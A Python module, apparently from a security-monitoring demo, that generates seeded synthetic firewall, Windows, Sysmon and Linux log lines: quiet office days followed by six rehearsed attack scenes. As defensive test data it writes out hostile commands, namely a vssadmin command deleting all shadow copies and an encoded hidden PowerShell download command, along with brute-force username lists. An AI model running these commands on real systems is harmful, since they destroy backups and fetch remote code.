"""What happens in the town: three quiet days, then six attacks. Lines with their moment, in order.

The same `seed` gives the same lines, so that two runs can be compared.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import TYPE_CHECKING

from hinomi.rehearse.lines import fortigate, linux, sophos, windows, yamaha

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

FORTIGATE_SERIAL = "FGT40FTK21000001"
SOPHOS_SERIAL = "X11601234567890"


@dataclass(frozen=True, slots=True)
class Line:
    """One record on its way: which machine of which company says it, and when."""

    company: str
    machine: str
    moment: datetime
    raw: bytes


@dataclass(frozen=True, slots=True)
class Scene:
    """One of the rehearsed cases. `ux_case` is its number in the twelve alert texts. `company` is
    "" where it happens at several at once. `known_bad` are names of servers that become known
    as an attacker's while it plays."""

    key: str
    ux_case: int
    company: str
    title_ja: str
    lines: Callable[[datetime], list[Line]]
    known_bad: tuple[str, ...] = ()


def quiet_days(*, end: datetime, days: int = 3, seed: int = 7) -> Iterator[Line]:
    """Ordinary office days before `end`, oldest first; only formats that carry a time."""
    draw = random.Random(seed)  # noqa: S311 - a rehearsal must repeat itself, not be secret
    for day in range(days, 0, -1):
        morning = end - timedelta(days=day) + timedelta(minutes=5)
        moments = sorted(morning + timedelta(seconds=draw.uniform(0, 9 * 3600)) for _ in range(120))
        for moment in moments:
            yield _ordinary(draw, moment)


def _ordinary(draw: random.Random, moment: datetime) -> Line:
    speakers = (_office_traffic, _factory_traffic, _pc_work, _server_work)
    return draw.choice(speakers)(draw, moment)


def _office_traffic(draw: random.Random, moment: datetime) -> Line:
    kind = "denied" if draw.random() < 0.2 else "traffic"
    slots = _flow(draw, lan="192.168.11", dport=23 if kind == "denied" else 443)
    if kind == "denied":
        slots["src"] = f"198.51.100.{draw.randint(1, 254)}"
    raw = fortigate.line(kind, moment, device="AOBA-FGT", serial=FORTIGATE_SERIAL, **slots)
    return Line("aoba", "router", moment, raw)


def _factory_traffic(draw: random.Random, moment: datetime) -> Line:
    kind = "denied" if draw.random() < 0.2 else "allowed"
    slots = _flow(draw, lan="192.168.31", dport=443)
    raw = sophos.line(kind, moment, serial=SOPHOS_SERIAL, mac="00:1a:8c:00:00:31", **slots)
    return Line("minato", "router", moment, raw)


def _pc_work(draw: random.Random, moment: datetime) -> Line:
    company, computer, user = draw.choice(
        (
            ("aoba", "AOBA-SOUMU1", "aoi"),
            ("bunkyo", "BUNKYO-UKETSUKE", "fumi"),
            ("minato", "MINATO-EIGYO4", "nagisa"),
        )
    )
    if draw.random() < 0.5:
        data = {
            "TargetUserName": user,
            "TargetDomainName": computer,
            "LogonType": "2",
            "IpAddress": "127.0.0.1",
            "ProcessName": "C:\\Windows\\System32\\svchost.exe",
        }
        return Line(
            company, "pc", moment, windows.line("logon", moment, computer=computer, data=data)
        )
    excel = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
    data = {
        "Image": excel,
        "CommandLine": f'"{excel}" "C:\\見積.xlsx"',
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "User": f"{computer}\\{user}",
        "OriginalFileName": "Excel.exe",
        "IntegrityLevel": "Medium",
    }
    return Line(
        company, "pc", moment, windows.line("process", moment, computer=computer, data=data)
    )


def _server_work(draw: random.Random, moment: datetime) -> Line:
    kind = draw.choice(("accepted_key", "session", "sudo", "cron"))
    raw = linux.line(
        kind,
        moment,
        host="yoyaku",
        pid=draw.randint(800, 32000),
        user="fumi",
        src="192.168.21.15",
        sport=draw.randint(49152, 65535),
    )
    return Line("bunkyo", "server", moment, raw)


def _flow(draw: random.Random, *, lan: str, dport: int) -> dict[str, object]:
    return {
        "src": f"{lan}.{draw.randint(10, 40)}",
        "sport": draw.randint(49152, 65535),
        "dst": f"198.51.100.{draw.randint(1, 254)}",
        "dport": dport,
        "session": draw.randint(10_000, 99_999_999),
        "sent": draw.randint(500, 20_000),
        "received": draw.randint(500, 900_000),
    }


def _ransomware(start: datetime) -> list[Line]:
    command = "C:\\Windows\\System32\\vssadmin.exe delete shadows /all /quiet"
    return [
        process_line(
            "aoba",
            "AOBA-SOUMU1",
            start,
            image="C:\\Windows\\System32\\vssadmin.exe",
            command=command,
            parent="C:\\Users\\aoi\\AppData\\Local\\Temp\\seikyusho.exe",
            user="AOBA-SOUMU1\\aoi",
        )
    ]


def _vpn_guessing(start: datetime) -> list[Line]:
    draw = random.Random(9)  # noqa: S311
    names = ("admin", "test", "tanaka", "suzuki", "vpnuser", "soumu", "backup")
    moments = [start + timedelta(milliseconds=300 * number) for number in range(48)]
    return [
        Line(
            "aoba",
            "router",
            moment,
            fortigate.line(
                "vpn_fail",
                moment,
                device="AOBA-FGT",
                serial=FORTIGATE_SERIAL,
                src=f"198.51.100.{draw.randint(60, 99)}",
                user=draw.choice(names),
            ),
        )
        for moment in moments
    ]


def _phishing_blocked(start: datetime) -> list[Line]:
    raw = sophos.line(
        "web_denied",
        start,
        serial=SOPHOS_SERIAL,
        src="192.168.31.24",
        sport=51044,
        dst="203.0.113.77",
        url="https://takuhai-fuzai.example/login",
        domain="takuhai-fuzai.example",
        session=88121,
    )
    return [Line("minato", "router", start, raw)]


def _emotet(start: datetime) -> list[Line]:
    command = (
        "powershell.exe -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIA"
        "QwBsAGkAZQBuAHQAOwAkAHMALgBEAG8AdwBuAGwAbwBhAGQARgBpAGwAZQAoACIAaAB0AHQAcAA6AC8ALwAiACkA"
    )
    return [
        process_line(
            "minato",
            "MINATO-EIGYO1",
            start,
            image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command=command,
            parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            user="MINATO-EIGYO1\\tanaka",
        )
    ]


def _server_guessing(start: datetime) -> list[Line]:
    draw = random.Random(12)  # noqa: S311
    lines = []
    for number in range(40):
        moment = start + timedelta(milliseconds=250 * number)
        slots = {
            "host": "yoyaku",
            "pid": 4000 + number,
            "user": draw.choice(("root", "admin", "oracle", "pi", "test")),
            "src": "198.51.100.201",
            "sport": 40_000 + number,
        }
        raw = linux.line("failed_password", moment, **slots)
        lines.append(Line("bunkyo", "server", moment, raw))
        if number % 4 == 0:
            raw = yamaha.line("login_failed", moment, src="198.51.100.201")
            lines.append(Line("bunkyo", "router", moment, raw))
    return lines


def _free_software(start: datetime) -> list[Line]:
    data = {
        "Product Name": "Microsoft Defender Antivirus",
        "Threat Name": "PUA:Win32/InstallCore",
        "Threat ID": "213927",
        "Severity Name": "Low",
        "Severity ID": "1",
        "Category Name": "Potentially Unwanted Software",
        "Category ID": "27",
        "Path": "file:_C:\\Users\\fumi\\Downloads\\henkan_setup.exe",
        "Detection User": "BUNKYO-UKETSUKE\\fumi",
        "Process Name": "C:\\Windows\\explorer.exe",
        "Action Name": "Not Applicable",
        "Action ID": "9",
    }
    found = windows.line("threat_found", start, computer="BUNKYO-UKETSUKE", data=data)
    return [Line("bunkyo", "pc", start, found)]


def _command_server(start: datetime) -> list[Line]:
    raw = fortigate.line(
        "botnet",
        start,
        device="AOBA-FGT",
        serial=FORTIGATE_SERIAL,
        src="192.168.11.21",
        sport=50211,
        dst="203.0.113.66",
        dport=443,
        session=771204,
    )
    return [Line("aoba", "router", start, raw)]


def process_line(
    company: str,
    computer: str,
    moment: datetime,
    *,
    image: str,
    command: str,
    parent: str,
    user: str,
) -> Line:
    """One started program, as Sysmon writes it."""
    data = {
        "RuleName": "-",
        "ProcessGuid": "{5f1f0e6d-0000-0000-0000-000000000001}",
        "ProcessId": "6120",
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\System32\\",
        "User": user,
        "IntegrityLevel": "High",
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
        "ParentUser": user,
    }
    raw = windows.line("process", moment, computer=computer, data=data)
    return Line(company, "pc", moment, raw)


# In the order the demo plays them: the one that cannot wait comes first.
SCENES = (
    Scene("ransomware", 8, "aoba", "ファイルを元に戻すための控えが消されようとする", _ransomware),
    Scene("vpn_guessing", 9, "aoba", "外からVPNに入ろうとする動きが続く", _vpn_guessing),
    Scene("phishing", 12, "minato", "偽の宅配サイトへの接続が止められる", _phishing_blocked),
    Scene("emotet", 3, "minato", "偽メールの添付ファイルから命令が動く", _emotet),
    Scene("free_software", 5, "bunkyo", "無料ソフトがウイルスと判定される", _free_software),
    Scene("command_server", 6, "aoba", "攻撃者のサーバーとの通信が見つかる", _command_server),
)
# Beside the six: routers and servers that face the street are knocked at all day.
KNOCKING = Scene(
    "server_guessing", 9, "bunkyo", "サーバーとルーターに入ろうとする", _server_guessing
)
